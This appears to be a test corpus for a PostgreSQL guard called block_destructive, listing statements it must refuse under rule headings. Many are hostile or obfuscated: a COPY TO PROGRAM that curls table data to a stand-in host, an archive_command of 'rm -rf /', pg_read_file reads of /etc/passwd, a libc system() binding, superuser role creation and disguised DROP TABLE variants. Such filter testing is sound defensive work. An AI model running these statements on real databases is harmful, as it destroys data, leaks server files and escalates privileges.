-- Statements that block_destructive must refuse, each by the rule named in its heading.
-- A case is what stands between two headings, comments and line ends included.

-- ## drop
DROP TABLE users
-- ## drop
drop table users
-- ## drop
DrOp/**/TaBlE/* x */users
-- ## drop
/* SELECT 1 */ DROP TABLE users
-- ## drop
/* nested /* comment */ still */ DROP TABLE users
-- ## drop
-- a comment
DROP
-- another
TABLE
users;
-- ## drop
	 DROP	TABLE users
-- ## drop
;;; DROP TABLE users;
-- ## drop
SELECT 1; DROP TABLE users
-- ## drop
SELECT 'a;b'; DROP TABLE users; SELECT 2
-- ## drop
BEGIN; DROP TABLE users; ROLLBACK
-- ## drop
DROP TABLE IF EXISTS "users" CASCADE
-- ## drop
DROP TABLE U&"us\0065rs"
-- ## drop
DROP TABLE U&"us!0065rs" UESCAPE '!'
-- ## drop
DROP TABLE public.users, "Other"
-- ## drop
DROP TABLE "an ""odd"" name"
-- ## drop
DROP VIEW v
-- ## drop
DROP MATERIALIZED VIEW m
-- ## drop
DROP INDEX CONCURRENTLY i
-- ## drop
DROP SCHEMA public CASCADE
-- ## drop
DROP DATABASE app
-- ## drop
DROP DATABASE app WITH (FORCE)
-- ## drop
DROP OWNED BY app
-- ## drop
DROP ROLE app
-- ## drop
DROP USER app
-- ## drop
DROP FUNCTION f(int)
-- ## drop
DROP ROUTINE f
-- ## drop
DROP TRIGGER audit ON users
-- ## drop
DROP RULE r ON users
-- ## drop
DROP POLICY p ON users
-- ## drop
DROP EXTENSION pgcrypto
-- ## drop
DROP SEQUENCE s
-- ## drop
DROP TYPE t
-- ## drop
DROP DOMAIN d
-- ## drop
DROP TABLESPACE ts
-- ## drop
DROP SUBSCRIPTION sub
-- ## drop
DROP PUBLICATION pub
-- ## drop
DROP SERVER s CASCADE
-- ## drop
DROP USER MAPPING FOR app SERVER s
-- ## drop
DROP EVENT TRIGGER guard
-- ## drop
DROP OPERATOR + (int, int)
-- ## drop
DROP CAST (int AS text)
-- ## drop
ALTER TABLE users DROP COLUMN email
-- ## drop
ALTER TABLE users DROP email
-- ## drop
ALTER TABLE users ADD COLUMN a int, DROP COLUMN IF EXISTS b CASCADE
-- ## drop
ALTER TABLE users DETACH PARTITION users_2020
-- ## drop
ALTER TYPE pair DROP ATTRIBUTE a
-- ## drop
DO $$ BEGIN DROP TABLE users; END $$
-- ## drop
DO 'BEGIN DROP TABLE users; END'
-- ## drop
DO E'BEGIN\n DR\x4fP TABLE users; END'
-- ## drop
DO U&'BEGIN D\0052OP TABLE users; END'
-- ## drop
DO LANGUAGE plpgsql $body$ BEGIN IF true THEN PERFORM 1; ELSE DROP TABLE users; END IF; END $body$
-- ## drop
DO $$ BEGIN BEGIN NULL; EXCEPTION WHEN others THEN DROP TABLE users; END; END $$
-- ## drop
DO $$ BEGIN FOR i IN 1..3 LOOP DROP TABLE users; END LOOP; END $$
-- ## drop
DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$
-- ## drop
DO $$ BEGIN EXECUTE 'DROP' || ' TABLE ' || 'users'; END $$
-- ## drop
DO $$ BEGIN EXECUTE $q$DROP TABLE users$q$; END $$
-- ## drop
DO $$ BEGIN EXECUTE 'DO $q$ BEGIN EXECUTE ''DROP TABLE users''; END $q$'; END $$
-- ## drop
DO $$ BEGIN EXECUTE E'DR\117P TABLE users'; END $$
-- ## drop
DO $$ BEGIN EXECUTE U&'\0044ROP TABLE users'; END $$
-- ## drop
DO $$ BEGIN EXECUTE 'DROP TABLE users'::text; END $$
-- ## drop
CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DROP TABLE users'
-- ## drop
CREATE FUNCTION f() RETURNS void LANGUAGE sql AS $$ SELECT 1; DROP TABLE users $$
-- ## drop
CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DROP TABLE users; END $$
-- ## drop
CREATE FUNCTION f() RETURNS trigger AS $$ BEGIN DROP TABLE users; RETURN NEW; END $$ LANGUAGE plpgsql
-- ## drop
CREATE FUNCTION f() RETURNS void LANGUAGE 'plpgsql' AS 'BEGIN EXECUTE ''DROP TABLE users''; END'
-- ## drop
CREATE FUNCTION f() RETURNS int AS $$ DECLARE c CURSOR FOR SELECT 1; BEGIN OPEN c; DROP TABLE users; RETURN 1; END $$ LANGUAGE plpgsql

-- ## truncate
TRUNCATE users
-- ## truncate
TRUNCATE TABLE ONLY users, orders RESTART IDENTITY CASCADE
-- ## truncate
truncate"users"
-- ## truncate
DO $$ BEGIN TRUNCATE users; END $$
-- ## truncate
CREATE PROCEDURE p() LANGUAGE sql AS 'TRUNCATE users'

-- ## every_row
DELETE FROM users
-- ## every_row
DELETE FROM ONLY users
-- ## every_row
delete/**/from/**/users
-- ## every_row
DELETE FROM users WHERE true
-- ## every_row
DELETE FROM users WHERE 1=1
-- ## every_row
DELETE FROM users WHERE 1=1 -- AND id = 5
-- ## every_row
DELETE FROM users WHERE NOT false
-- ## every_row
DELETE FROM users WHERE 'a'='a'
-- ## every_row
DELETE FROM users WHERE id = id
-- ## every_row
DELETE FROM users WHERE users.id = id
-- ## every_row
DELETE FROM users u WHERE u.id IS NOT DISTINCT FROM u.id
-- ## every_row
DELETE FROM users WHERE id IS NULL OR id IS NOT NULL
-- ## every_row
DELETE FROM users WHERE id = 5 OR true
-- ## every_row
DELETE FROM users WHERE id = 5 OR 1 < 2
-- ## every_row
DELETE FROM users WHERE id > 0 OR id <= 0
-- ## every_row
DELETE FROM users WHERE ctid IS NOT NULL
-- ## every_row
DELETE FROM users WHERE email LIKE '%'
-- ## every_row
DELETE FROM users WHERE email ~ '.*'
-- ## every_row
DELETE FROM users WHERE coalesce(email, '') = coalesce(email, '')
-- ## every_row
DELETE FROM users WHERE length(email) >= 0
-- ## every_row
DELETE FROM users WHERE EXISTS (SELECT 1)
-- ## every_row
DELETE FROM users WHERE EXISTS (SELECT 1 FROM users)
-- ## every_row
DELETE FROM users WHERE id IN (SELECT id FROM users)
-- ## every_row
DELETE FROM users WHERE id = ANY (ARRAY(SELECT id FROM users))
-- ## every_row
DELETE FROM users WHERE 't'::bool
-- ## every_row
DELETE FROM users WHERE CASE WHEN id = 1 THEN true ELSE true END
-- ## every_row
DELETE FROM users WHERE (SELECT true)
-- ## every_row
DELETE FROM users WHERE 1 IN (1, 2)
-- ## every_row
DELETE FROM users WHERE U&'\0061' = 'a'
-- ## every_row
DELETE FROM users WHERE (id = NULL) IS NOT TRUE
-- ## every_row
DELETE FROM users USING orders
-- ## every_row
DELETE FROM users USING orders o WHERE o.total > 5
-- ## every_row
DELETE FROM users USING users u2 WHERE users.id = u2.id
-- ## every_row
WITH gone AS (DELETE FROM users RETURNING *) SELECT count(*) FROM gone
-- ## every_row
WITH a AS (SELECT 1), gone AS (DELETE FROM users RETURNING *) INSERT INTO log SELECT id FROM gone
-- ## every_row
WITH RECURSIVE users AS (SELECT 1) DELETE FROM users
-- ## every_row
EXPLAIN ANALYZE DELETE FROM users
-- ## every_row
EXPLAIN (COSTS off, ANALYZE) DELETE FROM users
-- ## every_row
EXPLAIN (ANALYZE false, ANALYZE true) DELETE FROM users
-- ## every_row
UPDATE users SET admin = true
-- ## every_row
UPDATE users SET admin = true WHERE 2 > 1
-- ## every_row
UPDATE users AS u SET admin = true FROM orders o WHERE o.id = 5
-- ## every_row
UPDATE users SET (name, email) = (SELECT 'x', 'y')
-- ## every_row
WITH x AS (UPDATE users SET admin = true RETURNING 1) SELECT 1
-- ## every_row
MERGE INTO users USING (VALUES (1)) v(x) ON true WHEN MATCHED THEN DELETE
-- ## every_row
MERGE INTO users u USING staging s ON u.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE
-- ## every_row
MERGE INTO users u USING users s ON u.id = s.id WHEN MATCHED THEN UPDATE SET name = 'x'
-- ## every_row
PREPARE p AS DELETE FROM users
-- ## every_row
PREPARE p (bool) AS DELETE FROM users WHERE $1; EXECUTE p(true)
-- ## every_row
COPY (DELETE FROM users RETURNING *) TO STDOUT
-- ## every_row
CREATE RULE r AS ON INSERT TO log DO ALSO DELETE FROM users
-- ## every_row
CREATE RULE r AS ON UPDATE TO log DO INSTEAD (SELECT 1; UPDATE users SET admin = true)
-- ## every_row
CREATE FUNCTION f() RETURNS void BEGIN ATOMIC DELETE FROM users; END
-- ## every_row
CREATE FUNCTION f() RETURNS SETOF users LANGUAGE sql AS 'DELETE FROM users RETURNING *'
-- ## every_row
CREATE FUNCTION f() RETURNS trigger LANGUAGE plpgsql AS $f$ BEGIN DELETE FROM users; RETURN NULL; END $f$
-- ## every_row
DO $$ DECLARE r record; BEGIN FOR r IN DELETE FROM users RETURNING id LOOP NULL; END LOOP; END $$
-- ## every_row
DO $$ DECLARE n int; BEGIN UPDATE users SET admin = true RETURNING 1 INTO n; END $$

-- ## grant
GRANT ALL ON users TO public
-- ## grant
GRANT SELECT (email) ON users TO app WITH GRANT OPTION
-- ## grant
GRANT postgres TO app
-- ## grant
GRANT pg_read_server_files TO CURRENT_USER
-- ## grant
REVOKE ALL ON ALL TABLES IN SCHEMA public FROM app
-- ## grant
ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT ALL ON TABLES TO app
-- ## grant
CREATE SCHEMA s CREATE TABLE t (a int) GRANT ALL ON t TO public
-- ## grant
ALTER ROLE app SUPERUSER
-- ## grant
ALTER USER app WITH BYPASSRLS
-- ## grant
ALTER USER app PASSWORD 'x'
-- ## grant
ALTER GROUP admins ADD USER app
-- ## grant
CREATE ROLE evil SUPERUSER LOGIN
-- ## grant
CREATE USER evil IN ROLE pg_execute_server_program
-- ## grant
CREATE ROLE evil ROLE app
-- ## grant
REASSIGN OWNED BY app TO evil
-- ## grant
ALTER TABLE users OWNER TO evil
-- ## grant
ALTER SCHEMA public OWNER TO evil
-- ## grant
ALTER TABLE users DISABLE TRIGGER ALL
-- ## grant
ALTER TABLE users DISABLE ROW LEVEL SECURITY
-- ## grant
SECURITY LABEL ON TABLE users IS 'public'
-- ## grant
DO $$ BEGIN GRANT ALL ON users TO public; END $$

-- ## alter_system
ALTER SYSTEM SET archive_command = 'rm -rf /'
-- ## alter_system
alter system reset all
-- ## alter_system
ALTER/**/SYSTEM SET shared_preload_libraries = 'evil'

-- ## program
COPY users TO PROGRAM 'curl -d @- http://evil'
-- ## program
COPY users FROM PROGRAM 'id'
-- ## program
copy (select 1) to program $$sh$$
-- ## program
COPY BINARY users FROM PROGRAM 'id'
-- ## program
DO $$ BEGIN COPY users TO PROGRAM 'id'; END $$
-- ## program
DO $$ BEGIN EXECUTE 'COPY users TO PROGRAM ''id'''; END $$
-- ## program
CREATE FOREIGN TABLE ft (a text) SERVER files OPTIONS (program 'id')

-- ## server_files
COPY users TO '/tmp/users'
-- ## server_files
COPY users FROM '/etc/passwd'
-- ## server_files
COPY (SELECT * FROM users) TO E'/tmp/\x75sers' WITH (FORMAT csv)
-- ## server_files
CREATE FOREIGN TABLE ft (a text) SERVER files OPTIONS (filename '/etc/passwd')

-- ## functions
SELECT pg_read_file('/etc/passwd')
-- ## functions
SELECT pg_catalog.pg_read_file('/etc/passwd')
-- ## functions
SELECT PG_READ_FILE('/etc/passwd')
-- ## functions
SELECT "pg_read_file"('/etc/passwd')
-- ## functions
SELECT U&"pg_read\005ffile"('/etc/passwd')
-- ## functions
SELECT "pg_catalog" . "pg_read_binary_file" /* x */ ('/etc/passwd')
-- ## functions
SELECT ('/etc/passwd'::text).pg_read_file
-- ## functions
SELECT v.pg_read_file FROM unnest(ARRAY['/etc/passwd']) v
-- ## functions
SELECT (v).pg_read_file FROM unnest(ARRAY['/etc/passwd']) v
-- ## functions
SELECT * FROM pg_ls_dir('/')
-- ## functions
SELECT * FROM ROWS FROM (generate_series(1, 2), pg_ls_dir('/')) AS x
-- ## functions
SELECT 1 FROM users, LATERAL pg_stat_file(users.name)
-- ## functions
SELECT 1 ORDER BY length(pg_read_file('/etc/passwd'))
-- ## functions
SELECT count(*) FILTER (WHERE pg_terminate_backend(1)) FROM users
-- ## functions
SELECT CASE WHEN false THEN 1 ELSE lo_import('/etc/passwd')::int END
-- ## functions
SELECT lo_export(1, '/tmp/x')
-- ## functions
SELECT lo_unlink(1)
-- ## functions
VALUES (pg_reload_conf())
-- ## functions
INSERT INTO log VALUES (pg_read_file('/etc/passwd'))
-- ## functions
INSERT INTO log VALUES (1) ON CONFLICT (a) DO UPDATE SET b = pg_read_file('/etc/passwd')
-- ## functions
UPDATE log SET a = pg_read_file('/etc/passwd') WHERE id = 1
-- ## functions
DELETE FROM log WHERE id = 1 RETURNING pg_read_file('/etc/passwd')
-- ## functions
SELECT * FROM dblink('dbname=app', 'DROP TABLE users') AS t(a int)
-- ## functions
SELECT dblink_exec('dbname=app', 'DROP TABLE users')
-- ## functions
SELECT query_to_xml('DELETE FROM users', true, false, '')
-- ## functions
SELECT pg_catalog.query_to_xml_and_xmlschema('DELETE FROM users', true, false, '')
-- ## functions
SELECT database_to_xml(true, false, '')
-- ## functions
SELECT * FROM ts_stat('SELECT to_tsvector(email) FROM users')
-- ## functions
SELECT ts_rewrite('a'::tsquery, 'SELECT 1')
-- ## functions
SELECT * FROM crosstab('DELETE FROM users RETURNING 1, 2, 3') AS t(a int, b int)
-- ## functions
SELECT * FROM connectby('users', 'id', 'parent', '1', 0) AS t(a int, b int, c int)
-- ## functions
SELECT pg_create_logical_replication_slot('s', 'test_decoding')
-- ## functions
SELECT * FROM pg_logical_slot_get_changes('s', NULL, NULL)
-- ## functions
SELECT pg_switch_wal()
-- ## functions
CALL dblink_connect('x')
-- ## functions
EXPLAIN SELECT pg_read_file('/etc/passwd')
-- ## functions
CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')
-- ## functions
CREATE TABLE t AS SELECT pg_read_file('/etc/passwd')
-- ## functions
SELECT pg_read_file('/etc/passwd') INTO t
-- ## functions
CREATE TABLE t (a text DEFAULT pg_read_file('/etc/passwd'))
-- ## functions
CREATE INDEX ON users (pg_read_file(email))
-- ## functions
CREATE OPERATOR ### (PROCEDURE = pg_read_file, RIGHTARG = text)
-- ## functions
CREATE AGGREGATE a (text) (SFUNC = dblink_exec, STYPE = text)
-- ## functions
CREATE CAST (text AS text) WITH FUNCTION pg_read_file(text)
-- ## functions
CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW EXECUTE FUNCTION lo_manage()
-- ## functions
CREATE POLICY p ON users USING (pg_read_file(email) IS NULL)
-- ## functions
DECLARE c CURSOR FOR SELECT pg_read_file('/etc/passwd')
-- ## functions
PREPARE p AS SELECT pg_read_file($1)
-- ## functions
COPY (SELECT pg_read_file('/etc/passwd')) TO STDOUT
-- ## functions
DO $$ DECLARE x text := pg_read_file('/etc/passwd'); BEGIN NULL; END $$
-- ## functions
DO $$ DECLARE x text; BEGIN x := pg_read_file('/etc/passwd'); END $$
-- ## functions
DO $$ DECLARE x text[]; BEGIN x[length(pg_read_file('/etc/passwd'))] = 'a'; END $$
-- ## functions
DO $$ BEGIN RAISE NOTICE '%', pg_read_file('/etc/passwd'); END $$
-- ## functions
DO $$ BEGIN IF pg_terminate_backend(1) THEN NULL; END IF; END $$
-- ## functions
DO $$ BEGIN PERFORM 1 FROM pg_ls_dir('/'); END $$
-- ## functions
DO $$ DECLARE x text; BEGIN EXECUTE 'SELECT $1' INTO x USING pg_read_file('/etc/passwd'); END $$
-- ## functions
CREATE FUNCTION f(a text DEFAULT pg_read_file('/etc/passwd')) RETURNS text RETURN a
-- ## functions
CREATE FUNCTION f() RETURNS text RETURN pg_read_file('/etc/passwd')
-- ## functions
CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS 'BEGIN RETURN pg_read_file(''/etc/passwd''); END'

-- ## settings
SET session_replication_role = replica
-- ## settings
SET LOCAL "Session_Replication_Role" TO 'replica'
-- ## settings
SELECT set_config('session_replication_role', 'replica', false)
-- ## settings
SELECT pg_catalog.set_config('session_' || 'replication_role', 'replica', false)
-- ## settings
SELECT set_config(name, '0', false) FROM pg_settings
-- ## settings
SELECT set_config(name, 'replica', false) FROM pg_settings WHERE name = 'session_replication_role'
-- ## settings
SELECT set_config(name, 'replica', false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'
-- ## settings
SELECT set_config(name, 'replica', false) FROM pg_settings WHERE name = 'work_mem' OR name ~ 'replication_role'
-- ## settings
SELECT set_config(name, 'replica', false) FROM pg_settings WHERE name IN (SELECT name FROM pg_settings)
-- ## settings
SELECT set_config(name, 'replica', false) FROM public.pg_settings WHERE name = 'restrict_nonsystem_relation_kind'
-- ## settings
SELECT set_config(name, 'replica', false) FROM pg_settings AS s (setting, name) WHERE name = 'work_mem'
-- ## settings
SELECT set_config(name, setting, false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'
-- ## settings
SELECT set_config(name, 'view, ' || setting, false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'
-- ## settings
SELECT set_config(name, NULL, false) FROM pg_settings WHERE name = 'restrict_nonsystem_relation_kind'
-- ## settings
SELECT set_config(name, 'off', false), set_config(setting, 'view, foreign-table', false) FROM pg_settings
-- ## settings
SELECT set_config(name, 'view, foreign-table', false), set_config(setting, 'off', false) FROM pg_settings
-- ## settings
SELECT set_config('session_replication_role', 'view, foreign-table', false)
-- ## settings
SELECT set_config('session_replication_role', 'replica', false), set_config('session_replication_role', 'origin', false)
-- ## settings
SELECT set_config('session_replication_role', 'origin', false) FROM set_config('Session_Replication_Role', 'replica', false)
-- ## settings
CREATE FUNCTION f() RETURNS int SET role = postgres SET role = none LANGUAGE sql AS 'SELECT 1'
-- ## settings
SET standard_conforming_strings = off
-- ## settings
SET ROLE postgres
-- ## settings
SET SESSION AUTHORIZATION postgres
-- ## settings
ALTER ROLE app SET session_replication_role = replica
-- ## settings
ALTER DATABASE app SET standard_conforming_strings = off
-- ## settings
ALTER FUNCTION f() SET role = postgres
-- ## settings
CREATE FUNCTION f() RETURNS int SET session_replication_role = replica LANGUAGE sql AS 'SELECT 1'
-- ## settings
UPDATE pg_settings SET setting = 'off' WHERE name = 'standard_conforming_strings'
-- ## settings
UPDATE pg_catalog.pg_class SET relname = 'x' WHERE oid = 1
-- ## settings
DELETE FROM pg_largeobject WHERE loid = 1

-- ## dynamic_sql
DO $$ DECLARE q text := 'DROP TABLE users'; BEGIN EXECUTE q; END $$
-- ## dynamic_sql
DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'users'); END $$
-- ## drop
DO $$ BEGIN EXECUTE (SELECT 'DROP TABLE users'); END $$
-- ## dynamic_sql
DO $$ BEGIN EXECUTE (SELECT 'DROP TABLE ' || name FROM users LIMIT 1); END $$
-- ## dynamic_sql
DO $$ BEGIN EXECUTE convert_from('\x44524f50'::bytea, 'UTF8'); END $$
-- ## dynamic_sql
DO $$ BEGIN EXECUTE reverse('sresu ELBAT PORD'); END $$
-- ## dynamic_sql
DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE current_setting('my.q') LOOP NULL; END LOOP; END $$
-- ## dynamic_sql
DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE upper('select 1'); END $$
-- ## dynamic_sql
CREATE FUNCTION f(q text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE q; END $$
-- ## dynamic_sql
CREATE FUNCTION f(q text) RETURNS SETOF int LANGUAGE plpgsql AS $$ BEGIN RETURN QUERY EXECUTE q; END $$
-- ## dynamic_sql
DO $$ BEGIN EXECUTE 'DO $q$ BEGIN EXECUTE lower(''X''); END $q$'; END $$
-- ## dynamic_sql
EXECUTE never_prepared
-- ## dynamic_sql
CREATE TABLE t AS EXECUTE never_prepared
-- ## dynamic_sql
EXPLAIN ANALYZE EXECUTE never_prepared

-- ## code
DO LANGUAGE plpython3u 'import os'
-- ## code
CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'return 1'
-- ## code
CREATE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE c STRICT
-- ## code
CREATE FUNCTION f(text) RETURNS text LANGUAGE internal AS 'pg_read_file_all'
-- ## code
DO $$ BEGIN SELECT 1 frm x y z; END $$
-- ## code
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELEC 1'
-- ## code
CREATE EXTENSION dblink
-- ## code
CREATE EXTENSION IF NOT EXISTS "plpython3u" CASCADE
-- ## code
CREATE LANGUAGE plpython3u
-- ## code
LOAD 'evil'
-- ## code
CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')
-- ## code
CREATE FOREIGN DATA WRAPPER w HANDLER h
-- ## code
CREATE USER MAPPING FOR app SERVER s OPTIONS (password 'x')
-- ## code
CREATE SUBSCRIPTION s CONNECTION 'host=evil' PUBLICATION p
-- ## code
IMPORT FOREIGN SCHEMA x FROM SERVER s INTO public
